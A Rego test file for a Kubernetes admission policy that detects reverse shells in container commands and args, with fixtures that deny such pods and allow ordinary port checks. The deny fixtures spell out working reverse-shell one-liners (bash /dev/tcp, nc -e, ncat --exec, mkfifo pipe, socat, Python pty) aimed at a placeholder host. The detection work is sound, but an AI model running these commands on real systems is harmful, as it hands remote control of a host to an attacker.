package kubevet.pods["reverse-shell-in-command_test"]

import data.kubevet.lib.testing
import data.kubevet.pods["reverse-shell-in-command"] as rule

test_deny_every_kind_of_container if {
	rule.deny == {
		{"path": ["spec", "containers", 0, "command", 2], "message": `container "app" connects a shell to another host`, "line": 1},
		{"path": ["spec", "initContainers", 0, "command", 2], "message": `init container "setup" connects a shell to another host`, "line": 1},
		{"path": ["spec", "initContainers", 1, "command", 2], "message": `sidecar container "proxy" connects a shell to another host`, "line": 1},
		{"path": ["spec", "ephemeralContainers", 0, "command", 2], "message": `ephemeral container "debug" connects a shell to another host`, "line": 1},
	} with input as testing.input_for(`
apiVersion: v1
kind: Pod
metadata: {name: web}
spec:
  initContainers:
    - {name: setup, command: [bash, -c, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}
    - {name: proxy, restartPolicy: Always, command: [bash, -c, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}
  containers:
    - {name: app, command: [bash, -c, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}
  ephemeralContainers:
    - {name: debug, command: [bash, -c, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}
`)
}

test_deny_ways_to_connect if {
	rule.deny == {
		{"path": ["spec", "containers", 0, "args", 0], "message": `container "a" connects a shell to another host`, "line": 1},
		{"path": ["spec", "containers", 1, "args", 0], "message": `container "b" connects a shell to another host`, "line": 1},
		{"path": ["spec", "containers", 2, "args", 0], "message": `container "c" connects a shell to another host`, "line": 1},
		{"path": ["spec", "containers", 3, "args", 0], "message": `container "d" connects a shell to another host`, "line": 1},
		{"path": ["spec", "containers", 4, "args", 0], "message": `container "e" connects a shell to another host`, "line": 1},
	} with input as testing.input_for(`
apiVersion: v1
kind: Pod
metadata: {name: web}
spec:
  containers:
    - {name: a, args: ['nc -e /bin/sh 192.0.2.1 4444']}
    - {name: b, args: [ncat, 192.0.2.1, "4444", --exec, /bin/bash]}
    - {name: c, args: ['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f']}
    - {name: d, args: [socat, 'exec:bash -li,pty,stderr', 'tcp:192.0.2.1:4444']}
    - {name: e, args: ['import socket,os,pty; s=socket.socket(); s.connect(("192.0.2.1",1)); os.dup2(s.fileno(),0); pty.spawn("sh")']}
`)
}

test_allow_port_tests if {
	rule.deny == set() with input as testing.input_for(`
apiVersion: v1
kind: Pod
metadata: {name: web}
spec:
  containers:
    - {name: a, args: ['until bash -c "</dev/tcp/db/5432"; do sleep 1; done']}
    - {name: b, args: ['nc -z db 5432 && exec bash -c "sh run"']}
    - {name: c, args: ['exec 3<>/dev/tcp/localhost/8080; echo GET >&3']}
    - {name: d, args: ['socat TCP-LISTEN:80,fork TCP:web:8080']}
    - {name: e, args: ['mkfifo /tmp/log; cat /tmp/log & exec app > /tmp/log']}
`)
}
